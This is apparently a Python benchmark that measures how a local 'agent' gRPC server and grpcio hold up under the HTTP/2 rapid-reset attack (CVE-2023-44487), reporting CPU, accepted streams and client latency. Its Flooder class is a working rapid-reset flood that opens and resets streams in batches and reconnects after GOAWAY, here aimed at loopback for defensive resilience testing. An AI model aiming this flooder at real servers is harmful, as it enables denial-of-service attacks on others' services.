"""Benchmark: the HTTP/2 rapid-reset attack (CVE-2023-44487) against the agent, on its lean h2 server and
on grpcio (`--server grpcio`, the peer), in the same run.

For each server the agent runs in its own process (AgentProcess, CPU, metrics on). A flooder child process
opens --conns raw HTTP/2 connections on loopback; on each it writes streams in batches of --batch, every
stream opened and reset at once (RST_STREAM CANCEL), until the server sends GOAWAY or closes; then it
reconnects, as an attacker would, until --streams streams were written in all (or --max-s passed). Shapes:

    request   HEADERS + DATA(END_STREAM, a real MarketSnapshot) + RST_STREAM: the CVE's shape, a complete
              request reset at once (the server has a call, and may have started its handler)
    headers   HEADERS + RST_STREAM: the request never completed (what tests/test_wire_hostile.py sends)

Meanwhile a normal grpc.aio client sends Decide open loop at --rate calls/s on its own connection, latency
from each call's intended send time. Reported per server and shape:
  - agent CPU s during the flood (/proc/PID/stat utime+stime, from the flood's start to --settle-s after its
    end), net of the normal client's share (the agent's CPU rate with the normal client alone, measured first)
  - streams written, streams accepted (a GOAWAY's last stream id; all written when none came), connections
    made, connections refused before any stream (GOAWAY last id 0), streams written per admitted connection
    (median), the most accepted on any one connection, the GOAWAY error codes seen (none: closed without one)
  - normal calls: p50/p99 ms and failures
  - reset streams whose handler ran (agent_requests_total grew by more than the normal calls) and that reached
    the model (agent_batch_size_sum, requests in forward passes, grew by more than the normal calls answered)

    .venv/bin/python bench/rapid_reset.py                        # 3 rounds, both shapes, 100,000 streams each
    .venv/bin/python bench/rapid_reset.py --rounds 1 --shapes request --streams 20000
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import random
import re
import selectors
import socket
import statistics
import sys
import time
import urllib.request
from dataclasses import dataclass, field
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from agent_under_test.launch import AgentProcess  # noqa: E402
from agent_under_test.market import MarketSim  # noqa: E402
from wire import h2  # noqa: E402
from wire.h2 import ErrorCode, Flag, FrameType  # noqa: E402
from wire.headers import encode_block  # noqa: E402
from wire.stats import percentiles  # noqa: E402

DECIDE = "/shadowtest.agent.v1.TradingAgent/Decide"
CLK_TCK = os.sysconf("SC_CLK_TCK")
MAX_CONNECTIONS = 20_000      # reconnects, all slots together: the flood stays bounded in count
READ_CHUNK = 1 << 16
FENCE_S = 10.0                # how long a connection that wrote all its streams waits for the server to read them
_FENCE = b"rr-fence"
SLOW_MS = 50.0                # normal calls slower than this are listed with when they were sent


# ---- the flooder (a child process, so its CPU and GIL are not the normal client's) -----------------------
@dataclass
class Slot:
    """One of --conns connections in turn: the attacker reconnects in a slot when its connection ends."""

    quota: int                                  # streams this slot still has to write
    sock: socket.socket | None = None
    out: bytearray = field(default_factory=bytearray)
    pending_streams: list[int] = field(default_factory=list)   # bytes left in `out` where each stream ends
    inbuf: bytes = b""
    next_sid: int = 1
    written: int = 0                            # streams fully written on this connection
    window: int = h2.DEFAULT_WINDOW             # the server's connection receive window for our DATA
    goaway: tuple[int, int] | None = None       # (last stream id, error code)
    fenced: float | None = None                 # when the closing PING went out (quota all written)
    fence_acked: bool = False


class Flooder:
    def __init__(self, address: str, shape: str, batch: int) -> None:
        host, _, port = address.rpartition(":")
        self.addr = (host, int(port))
        self.batch, self.shape = batch, shape
        self.block = encode_block([(":method", "POST"), (":scheme", "http"), (":path", DECIDE),
                                   (":authority", address), ("content-type", "application/grpc"),
                                   ("te", "trailers")])
        msg = MarketSim(random.Random(1)).next(1).SerializeToString()
        self.body = b"\x00" + len(msg).to_bytes(4, "big") + msg if shape == "request" else b""
        self.stream_size = len(self._stream(1))
        self.sel = selectors.DefaultSelector()
        self.conns: list[dict[str, object]] = []   # one record per finished connection

    def _stream(self, sid: int) -> bytes:
        b, d = self.block, self.body
        out = h2.HEAD.pack(len(b) >> 16, len(b) & 0xFFFF, FrameType.HEADERS, Flag.END_HEADERS, sid) + b
        if d:
            out += h2.HEAD.pack(len(d) >> 16, len(d) & 0xFFFF, FrameType.DATA, Flag.END_STREAM, sid) + d
        return out + h2.rst_stream(sid, ErrorCode.CANCEL)

    def connect(self, slot: Slot) -> None:
        sock = socket.create_connection(self.addr, timeout=5)
        sock.setblocking(False)
        slot.sock, slot.inbuf, slot.next_sid, slot.written, slot.goaway = sock, b"", 1, 0, None
        slot.window, slot.fenced, slot.fence_acked = h2.DEFAULT_WINDOW, None, False
        slot.out = bytearray(h2.PREFACE + h2.settings({}))
        slot.pending_streams = []
        self.sel.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE, slot)

    def _queue(self, slot: Slot) -> None:
        """Queue the next batch, within the slot's quota and the server's connection window."""
        n = min(self.batch, slot.quota - len(slot.pending_streams))
        if slot.goaway is not None or n <= 0 or len(slot.out) > 4 * self.batch * self.stream_size:
            return
        n = min(n, slot.window // len(self.body)) if self.body else n
        for _ in range(n):
            slot.out += self._stream(slot.next_sid)
            slot.pending_streams.append(len(slot.out))
            slot.next_sid += 2
        slot.window -= n * len(self.body)

    def _write(self, slot: Slot) -> bool:
        """Write what the socket takes; False once the connection is gone (the server closed it)."""
        assert slot.sock is not None
        try:
            sent = slot.sock.send(slot.out)
        except BlockingIOError:
            return True
        except OSError:
            return False
        del slot.out[:sent]
        done = 0
        for i, end in enumerate(slot.pending_streams):
            if end > sent:
                done = i
                break
        else:
            done = len(slot.pending_streams)
        slot.pending_streams = [end - sent for end in slot.pending_streams[done:]]
        slot.written += done
        slot.quota -= done
        return True

    def _read(self, slot: Slot) -> bool:
        """Read what the server sent; False once the connection is over (GOAWAY, EOF or reset)."""
        assert slot.sock is not None
        try:
            data = slot.sock.recv(READ_CHUNK)
        except BlockingIOError:
            return True
        except OSError:
            return False
        if not data:
            return False
        frames, pos, _ = h2.split(slot.inbuf + data)
        slot.inbuf = (slot.inbuf + data)[pos:]
        for ftype, flags, sid, payload in frames:
            if ftype == FrameType.GOAWAY:
                last, code = h2.GOAWAY_BODY.unpack_from(payload)
                slot.goaway = (last & h2.MAX_STREAM_ID, code)
                return False
            if ftype == FrameType.WINDOW_UPDATE and sid == 0:
                slot.window += h2.U32.unpack(payload)[0] & h2.MAX_WINDOW
            elif ftype == FrameType.SETTINGS and not flags & Flag.ACK:
                slot.out += h2.SETTINGS_ACK
            elif ftype == FrameType.PING and not flags & Flag.ACK:
                slot.out += h2.ping(payload, ack=True)
            elif ftype == FrameType.PING and payload == _FENCE:
                slot.fence_acked = True
        return True

    def _end(self, slot: Slot) -> None:
        """The connection is over: record it, give its unwritten streams back to the slot's quota."""
        assert slot.sock is not None
        self.sel.unregister(slot.sock)
        slot.sock.close()
        slot.sock = None
        accepted = slot.written if slot.goaway is None else min(slot.written, (slot.goaway[0] + 1) // 2)
        self.conns.append({"written": slot.written, "accepted": accepted,
                           "goaway": None if slot.goaway is None else h2.error_name(slot.goaway[1])})

    def run(self, total: int, conns: int, max_s: float) -> dict[str, object]:
        slots = [Slot(total // conns + (1 if i < total % conns else 0)) for i in range(conns)]
        start = time.monotonic()
        deadline = start + max_s
        for slot in slots:
            self.connect(slot)
        while self.sel.get_map() and time.monotonic() < deadline:
            for key, events in self.sel.select(0.5):
                self._step(key.data, events, slots)
        for slot in slots:
            if slot.sock is not None:
                self._end(slot)
        return self._report(time.monotonic() - start, len(self.conns) >= MAX_CONNECTIONS)

    def _step(self, slot: Slot, events: int, slots: list[Slot]) -> None:
        alive = self._read(slot) if events & selectors.EVENT_READ else True
        if alive:
            self._queue(slot)
            alive = self._write(slot) if slot.out else True
            self._queue(slot)   # refilled now, so the interest below says WRITE while there is more
            if alive and slot.quota <= 0 and not slot.out:
                alive = self._fence(slot)
        if alive:
            assert slot.sock is not None  # nothing to write (the window is spent): wait for the server
            want = selectors.EVENT_READ | (selectors.EVENT_WRITE if slot.out else 0)
            if self.sel.get_key(slot.sock).events != want:
                self.sel.modify(slot.sock, want, slot)
            return
        self._end(slot)
        if slot.quota > 0 and len(self.conns) < MAX_CONNECTIONS:
            self.connect(slot)

    def _fence(self, slot: Slot) -> bool:
        """All written: a PING whose ACK says the server has read (and dealt with) every stream before it,
        since a server answers frames in order. Closing at once instead would reset the connection and
        throw away what the server had not read yet. False (close) once acked or after FENCE_S."""
        if slot.fenced is None:
            slot.fenced = time.monotonic()
            slot.out += h2.ping(_FENCE)
            return True
        return not slot.fence_acked and time.monotonic() - slot.fenced < FENCE_S

    def _report(self, seconds: float, capped: bool) -> dict[str, object]:
        codes: dict[str, int] = {}
        for c in self.conns:
            name = str(c["goaway"] or "none")
            codes[name] = codes.get(name, 0) + 1
        written = sum(int(str(c["written"])) for c in self.conns)
        accepted = sum(int(str(c["accepted"])) for c in self.conns)
        per_conn = [int(str(c["written"])) for c in self.conns if c["accepted"] or not c["goaway"]]  # admitted
        return {"seconds": round(seconds, 2), "written": written, "accepted": accepted,
                "connections": len(self.conns), "goaway": codes, "capped": capped,
                "admitted": len(per_conn), "streams_per_conn_median": statistics.median(per_conn) if per_conn else 0,
                "streams_per_conn_max": max(per_conn, default=0),
                "accepted_top": sorted((int(str(c["accepted"])) for c in self.conns), reverse=True)[:12],
                "refused_at_once": sum(1 for c in self.conns if c["accepted"] == 0 and c["goaway"])}


# ---- the agent's side: CPU and counters ------------------------------------------------------------------
def cpu_s(pid: int) -> float:
    """utime + stime of the whole process (all threads), in seconds."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / CLK_TCK


def counters(url: str) -> dict[str, float]:
    """Requests in forward passes (agent_batch_size_sum), calls by outcome, expired calls by fate."""
    with urllib.request.urlopen(f"{url}/metrics", timeout=10) as r:
        text = r.read().decode()
    out: dict[str, float] = {}
    for line in text.splitlines():
        m = re.match(r"(agent_batch_size_sum|agent_requests_total|agent_expired_calls_total)(\{[^}]*\})? (\S+)$",
                     line)
        if m:
            out[m.group(1) + (m.group(2) or "")] = float(m.group(3))
    return out


def _total(c: dict[str, float], prefix: str) -> float:
    return sum(v for k, v in c.items() if k.startswith(prefix))


# ---- the normal client -----------------------------------------------------------------------------------
class Prober:
    """Decide open loop at `rate` calls/s; latency from each call's intended send time."""

    def __init__(self, address: str, rate: float) -> None:
        import grpc
        from grpc import aio

        from agent_under_test.proto import agent_pb2_grpc

        self.grpc = grpc
        self.channel = aio.insecure_channel(address)
        self.stub = agent_pb2_grpc.TradingAgentStub(self.channel)
        self.rate = rate
        self.sim = MarketSim(random.Random(7))
        self.seq = 0
        self.lat_ms: list[float] = []
        self.slow: list[tuple[float, float]] = []    # (s since the flood began, ms) of calls over SLOW_MS
        self.t0 = time.perf_counter()
        self.failures: dict[str, int] = {}

    async def _one(self, at: float) -> None:
        self.seq += 1
        try:
            await self.stub.Decide(self.sim.next(self.seq), timeout=5.0)
            ms = (time.perf_counter() - at) * 1e3
            self.lat_ms.append(ms)
            if ms > SLOW_MS:
                self.slow.append((round(at - self.t0, 2), round(ms, 1)))
        except self.grpc.aio.AioRpcError as exc:
            name = exc.code().name
            self.failures[name] = self.failures.get(name, 0) + 1

    async def run(self, stop: asyncio.Event, max_s: float) -> None:
        start = time.perf_counter()
        tasks: list[asyncio.Task[None]] = []
        i = 0
        while not stop.is_set() and i < max_s * self.rate:
            at = start + i / self.rate
            await asyncio.sleep(max(0.0, at - time.perf_counter()))
            tasks.append(asyncio.create_task(self._one(at)))
            i += 1
        await asyncio.gather(*tasks)

    def take(self) -> tuple[list[float], dict[str, int]]:
        lat, fail = self.lat_ms, self.failures
        self.lat_ms, self.failures, self.slow = [], {}, []
        return lat, fail


async def probe_alone(prober: Prober, seconds: float) -> None:
    stop = asyncio.Event()
    task = asyncio.create_task(prober.run(stop, seconds))
    await asyncio.sleep(seconds)
    stop.set()
    await task


async def flood_once(agent: AgentProcess, prober: Prober, shape: str, args: argparse.Namespace,
                     idle_cpu_per_s: float) -> dict[str, object]:
    """One flood with the normal client running beside it; the agent's CPU, counters and the client's view."""
    c0, cpu0, t0 = counters(str(agent.metrics_url)), cpu_s(agent.pid), time.monotonic()
    prober.t0 = time.perf_counter()
    stop = asyncio.Event()
    probe = asyncio.create_task(prober.run(stop, args.max_s + args.settle_s + 5))
    child = await asyncio.create_subprocess_exec(
        sys.executable, __file__, "--flood-child", agent.grpc_address, shape, str(args.streams), str(args.conns),
        str(args.max_s), str(args.batch), stdout=asyncio.subprocess.PIPE)
    out, _ = await asyncio.wait_for(child.communicate(), args.max_s + 30)
    await asyncio.sleep(args.settle_s)   # what the agent still had in its socket buffers
    stop.set()
    await probe
    cpu1, t1, c1 = cpu_s(agent.pid), time.monotonic(), counters(str(agent.metrics_url))
    flood = json.loads(out)
    slow = prober.slow[:10]
    lat, fail = prober.take()
    q = percentiles(lat, (0.5, 0.99)) if lat else {0.5: float("nan"), 0.99: float("nan")}
    d = {k: c1.get(k, 0.0) - c0.get(k, 0.0) for k in c1}
    ran = _total(d, "agent_requests_total") - len(lat) - sum(fail.values())
    return {**flood, "cpu_s": round(cpu1 - cpu0 - idle_cpu_per_s * (t1 - t0), 3), "cpu_raw_s": round(cpu1 - cpu0, 3),
            "window_s": round(t1 - t0, 2), "p50_ms": round(q[0.5], 2), "p99_ms": round(q[0.99], 2),
            "calls": len(lat), "failures": sum(fail.values()), "failure_codes": fail,
            "handler_ran": max(0, round(ran)), "reached_model": max(0, round(d.get("agent_batch_size_sum", 0.0) - len(lat))),
            "expired_dropped": round(d.get('agent_expired_calls_total{fate="dropped"}', 0.0)), "slow": slow}


async def one_server(server: str, shapes: list[str], args: argparse.Namespace) -> dict[str, dict[str, object]]:
    with AgentProcess(device="cpu", server=server, metrics_port=0) as agent:
        prober = Prober(agent.grpc_address, args.rate)
        await probe_alone(prober, 1.0)             # warm: channel up, first forward passes done
        prober.take()
        cpu0, t0 = cpu_s(agent.pid), time.monotonic()
        await probe_alone(prober, args.idle_s)
        idle = (cpu_s(agent.pid) - cpu0) / (time.monotonic() - t0)
        lat, fail = prober.take()
        q = percentiles(lat, (0.5, 0.99))
        res: dict[str, dict[str, object]] = {"idle": {"p50_ms": round(q[0.5], 2), "p99_ms": round(q[0.99], 2),
                                                      "failures": sum(fail.values()), "cpu_per_s": round(idle, 3)}}
        for shape in shapes:
            res[shape] = await flood_once(agent, prober, shape, args, idle)
        await prober.channel.close()
    return res


# ---- report -----------------------------------------------------------------------------------------------
COLUMNS = ("cpu_s", "written", "accepted", "connections", "refused_at_once", "streams_per_conn_median", "goaway",
           "p50_ms", "p99_ms", "failures", "handler_ran", "reached_model")


def _median(rows: list[dict[str, object]], key: str) -> object:
    """The median of a number; for GOAWAY codes, each code's share of all the rounds' connections."""
    vals = [r[key] for r in rows]
    if all(isinstance(v, (int, float)) for v in vals):
        return statistics.median(float(str(v)) for v in vals)
    counts: dict[str, int] = {}
    for v in vals:
        for code, n in dict(v).items():  # type: ignore[call-overload]
            counts[code] = counts.get(code, 0) + n
    total = sum(counts.values()) or 1
    return ", ".join(f"{code} {100 * n / total:.0f}%" for code, n in sorted(counts.items()))


def report(results: dict[str, list[dict[str, dict[str, object]]]], shapes: list[str]) -> None:
    for shape in shapes:
        print(f"\n== shape {shape}: per round")
        for server, rounds in results.items():
            for i, r in enumerate(rounds):
                row = r[shape]
                print(f"  round {i + 1} {server:7s} " + "  ".join(f"{k}={row[k]}" for k in COLUMNS)
                      + f"  seconds={row['seconds']} idle_p99_ms={r['idle']['p99_ms']}")
        print(f"== shape {shape}: medians over {len(next(iter(results.values())))} rounds")
        med = {s: {k: _median([r[shape] for r in rounds], k) for k in COLUMNS} for s, rounds in results.items()}
        print(f"  {'':24s}" + "".join(f"{s:>26s}" for s in med))
        for k in COLUMNS:
            print(f"  {k:24s}" + "".join(f"{str(m[k]):>26s}" for m in med.values()))
        if "agent" in med and "grpcio" in med:
            for k in ("cpu_s", "p99_ms", "accepted"):
                a, g = med["agent"][k], med["grpcio"][k]
                if isinstance(a, float) and isinstance(g, float) and g:
                    print(f"  ratio agent/grpcio {k}: {a / g:.2f}")


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--rounds", type=int, default=3)
    ap.add_argument("--shapes", nargs="+", choices=("request", "headers"), default=["request", "headers"])
    ap.add_argument("--servers", nargs="+", choices=("h2", "grpcio"), default=["h2", "grpcio"])
    ap.add_argument("--streams", type=int, default=100_000, help="streams written in all, reconnects included")
    ap.add_argument("--conns", type=int, default=10, help="connections open at once")
    ap.add_argument("--batch", type=int, default=100, help="streams per write")
    ap.add_argument("--max-s", type=float, default=30.0, help="a flood ends after this, written or not")
    ap.add_argument("--rate", type=float, default=50.0, help="normal calls/s")
    ap.add_argument("--idle-s", type=float, default=3.0, help="normal client alone: the agent's CPU rate for it")
    ap.add_argument("--settle-s", type=float, default=1.0, help="after the flood, still counted")
    ap.add_argument("--json", default=None)
    ap.add_argument("--flood-child", nargs=6, default=None, help=argparse.SUPPRESS)
    args = ap.parse_args()
    if args.flood_child:
        address, shape, total, conns, max_s, batch = args.flood_child
        print(json.dumps(Flooder(address, shape, int(batch)).run(int(total), int(conns), float(max_s))))
        return
    print(f"{time.strftime('%Y-%m-%d %H:%M:%S %Z')}  load average {os.getloadavg()}", flush=True)
    names = {"h2": "agent", "grpcio": "grpcio"}
    results: dict[str, list[dict[str, dict[str, object]]]] = {names[s]: [] for s in args.servers}
    for rnd in range(args.rounds):
        for server in args.servers:
            res = asyncio.run(one_server(server, args.shapes, args))
            results[names[server]].append(res)
            for shape in args.shapes:
                print(f"round {rnd + 1} {names[server]:7s} {shape:8s} {json.dumps(res[shape])}", flush=True)
    report(results, args.shapes)
    print(f"load average {os.getloadavg()}")
    if args.json:
        Path(args.json).write_text(json.dumps(results, indent=2))


if __name__ == "__main__":
    main()
